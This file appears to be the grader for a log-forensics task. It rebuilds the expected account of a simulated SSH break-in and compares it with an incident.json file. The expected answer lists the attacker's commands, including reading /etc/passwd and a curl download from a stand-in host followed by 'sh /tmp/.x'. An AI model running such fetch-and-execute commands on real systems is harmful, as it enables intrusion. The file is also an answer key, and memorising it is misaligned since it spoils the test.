"""Works the answer out from the events the logs were made of, and compares."""

import importlib.util
import json
import unittest
from datetime import timedelta
from pathlib import Path

spec = importlib.util.spec_from_file_location("make_logs", "/tests/make_logs.py")
make_logs = importlib.util.module_from_spec(spec)
spec.loader.exec_module(make_logs)

BREAK_IN = 2 * 86400 + 46_900


def answer():
    tried, first = [], None
    for second, message in sorted(make_logs.events(), key=lambda event: event[0]):
        if second < BREAK_IN and f" from {make_logs.INTRUDER} " in message and "Failed " in message:
            first = second if first is None else first
            account = message.partition(f" from {make_logs.INTRUDER}")[0].split()[-1]
            tried += [account] * (3 if "repeated 3 times" in message else 1)
    return {
        "address": make_logs.INTRUDER,
        "account": "web",
        "accounts_tried": len(set(tried)),
        "failures": len(tried),
        "first_attempt": utc(first),
        "break_in": utc(BREAK_IN),
        "session": 9,
        "commands": ["id", "uname -a", "cat /etc/passwd", "id", "curl -o /tmp/.x http://203.0.113.80/x", "sh /tmp/.x"],
    }


def utc(second):
    return (make_logs.START + timedelta(seconds=second)).strftime("%Y-%m-%dT%H:%M:%SZ")


class Incident(unittest.TestCase):
    maxDiff = 4000

    def test_answer(self):
        expected = answer()
        found = json.loads(Path("/app/incident.json").read_text())
        self.assertEqual(found, expected)


if __name__ == "__main__":
    unittest.main()
